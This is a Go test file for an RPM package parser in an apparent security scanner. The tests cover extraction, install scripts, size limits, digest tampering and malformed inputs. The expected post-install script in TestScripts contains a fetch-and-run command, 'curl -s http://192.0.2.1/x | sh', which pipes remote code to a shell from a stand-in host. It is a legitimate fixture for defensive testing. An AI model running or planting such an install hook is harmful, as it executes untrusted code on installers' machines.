package rpm

import (
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/format"
	"github.com/vigilsec/vigil/format/formattest"
)

func openFile(t testing.TB, name string) (*Tree, error) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return Open(bytes.NewReader(b), format.DefaultLimits)
}

// sums returns "sha256  ./path" lines for every regular file outside
// ScriptsDir, in the layout sha256sum prints.
func sums(t *testing.T, fsys fs.FS) string {
	t.Helper()
	return formattest.Sums(t, fsys, "./", func(p string, d fs.DirEntry) bool {
		return d.Type().IsRegular() && !strings.HasPrefix(p, ScriptsDir)
	})
}

func TestRoundTrip(t *testing.T) {
	for _, c := range []string{"gzip", "xz", "zstd", "bzip2", "none"} {
		t.Run(c, func(t *testing.T) {
			name := "hello-" + c + ".rpm"
			tree, err := openFile(t, name)
			if err != nil {
				t.Fatal(err)
			}
			if tree.Package.Compressor != c || tree.Package.Name != "hello" || tree.Package.Version != "1.0" {
				t.Errorf("package = %+v", tree.Package)
			}
			want, _ := os.ReadFile(filepath.Join("testdata", name+".sha256"))
			if got := sums(t, tree); got != string(want) {
				t.Errorf("files differ from rpm2cpio | cpio:\ngot:\n%s\nwant:\n%s", got, want)
			}
			if p := tree.Problems(); len(p) != 0 {
				t.Errorf("problems on a clean package: %+v", p)
			}
			// Every path cpio -t lists is there, directories and links too.
			list, _ := os.ReadFile(filepath.Join("testdata", name+".list"))
			for _, p := range strings.Fields(string(list)) {
				if _, err := fs.Stat(tree, strings.TrimPrefix(p, "./")); err != nil {
					t.Errorf("cpio -t lists %s: %v", p, err)
				}
			}
			fi, err := fs.Stat(tree, "usr/share/hello/link")
			if err != nil || fi.Mode()&fs.ModeSymlink == 0 {
				t.Errorf("symlink: %v, %v", fi, err)
			}
		})
	}
}

func TestScripts(t *testing.T) {
	tree, err := openFile(t, "hello-xz.rpm")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"prein.sh":     "echo pre-install",
		"postin.sh":    "echo post-install; curl -s http://192.0.2.1/x | sh",
		"preun.sh":     "echo pre-uninstall",
		"postun.py":    `print("post-uninstall")`,
		"pretrans.lua": `print("pretrans")`,
		"trigger-0.sh": "echo bash changed",
	}
	list, err := fs.ReadDir(tree, ScriptsDir)
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != len(want) {
		t.Errorf("%d scripts, want %d: %v", len(list), len(want), list)
	}
	for name, body := range want {
		b, err := fs.ReadFile(tree, ScriptsDir+"/"+name)
		if err != nil {
			t.Error(err)
			continue
		}
		if strings.TrimSpace(string(b)) != body {
			t.Errorf("%s = %q, want %q", name, b, body)
		}
	}
}

func TestEntryTooLarge(t *testing.T) {
	b, _ := os.ReadFile("testdata/hello-zstd.rpm")
	lim := format.DefaultLimits
	lim.MaxEntryBytes = 100
	tree, err := Open(bytes.NewReader(b), lim)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fs.Stat(tree, "usr/share/hello/numbers.txt"); err == nil {
		t.Error("an entry over MaxEntryBytes is listed")
	}
	if _, err := fs.ReadFile(tree, "etc/hello.conf"); err != nil {
		t.Error(err)
	}
	p := tree.Problems()
	if len(p) != 1 || p[0].Rule != format.RuleEntryTooLarge {
		t.Errorf("problems = %+v", p)
	}
}

func TestTampered(t *testing.T) {
	tree, err := openFile(t, "fail_tampered.rpm")
	if err != nil {
		t.Fatal(err)
	}
	p := tree.Problems()
	if len(p) != 2 || p[0].Rule != RuleDigestMismatch || !strings.Contains(p[0].Message, "payload has digest") ||
		p[1].Rule != RuleDigestMismatch || p[1].Path != "etc/hello.conf" {
		t.Errorf("problems = %+v, want digest mismatches for the payload and etc/hello.conf", p)
	}
	tree, err = openFile(t, "fail_script.rpm")
	if err != nil {
		t.Fatal(err)
	}
	p = tree.Problems()
	if len(p) != 1 || p[0].Rule != RuleDigestMismatch || !strings.Contains(p[0].Message, "main header has digest") {
		t.Errorf("problems = %+v, want a digest mismatch for the main header", p)
	}
	if b, _ := fs.ReadFile(tree, ScriptsDir+"/postin.sh"); !strings.Contains(string(b), "POST-INSTALL") {
		t.Errorf("postin.sh = %q", b)
	}
}

func TestMalformed(t *testing.T) {
	if _, err := openFile(t, "fail_tagcount.rpm"); err == nil || !strings.Contains(err.Error(), "out of bounds") {
		t.Errorf("fail_tagcount.rpm: %v", err)
	}
	if _, err := openFile(t, "fail_truncated_header.rpm"); err == nil || !strings.Contains(err.Error(), "past the end") {
		t.Errorf("fail_truncated_header.rpm: %v", err)
	}
	// Cut in the payload: the scripts and the files before the cut are
	// there, and the cut is reported.
	tree, err := openFile(t, "fail_truncated.rpm")
	if err != nil {
		t.Fatal(err)
	}
	p := tree.Problems()
	if len(p) != 2 || p[0].Rule != RuleDigestMismatch || p[1].Rule != format.RuleMalformed || !strings.Contains(p[1].Message, "payload") {
		t.Errorf("fail_truncated.rpm: problems = %+v", p)
	}
	if _, err := fs.ReadFile(tree, ScriptsDir+"/postin.sh"); err != nil {
		t.Error(err)
	}
	if _, err := Open(bytes.NewReader([]byte("not an rpm at all")), format.DefaultLimits); err != format.ErrNotFormat {
		t.Errorf("text: %v", err)
	}
}

func TestEntryLimit(t *testing.T) {
	b, _ := os.ReadFile("testdata/hello-gzip.rpm")
	lim := format.DefaultLimits
	lim.MaxEntries = 2
	tree, err := Open(bytes.NewReader(b), lim)
	if err != nil {
		t.Fatal(err)
	}
	p := tree.Problems()
	if len(p) == 0 || p[len(p)-1].Rule != format.RuleTooManyFiles {
		t.Errorf("problems = %+v", p)
	}
}

func FuzzOpen(f *testing.F) {
	for _, n := range []string{"hello-gzip.rpm", "hello-none.rpm", "fail_truncated.rpm"} {
		b, err := os.ReadFile(filepath.Join("testdata", n))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		lim := format.DefaultLimits
		lim.MaxTotalBytes = 1 << 20
		lim.MaxEntryBytes = 1 << 20
		tree, err := Open(bytes.NewReader(b), lim)
		if err != nil {
			return
		}
		formattest.ReadAll(tree)
	})
}

func BenchmarkOpen(b *testing.B) {
	data, _ := os.ReadFile("testdata/hello-xz.rpm")
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := Open(bytes.NewReader(data), format.DefaultLimits); err != nil {
			b.Fatal(err)
		}
	}
}
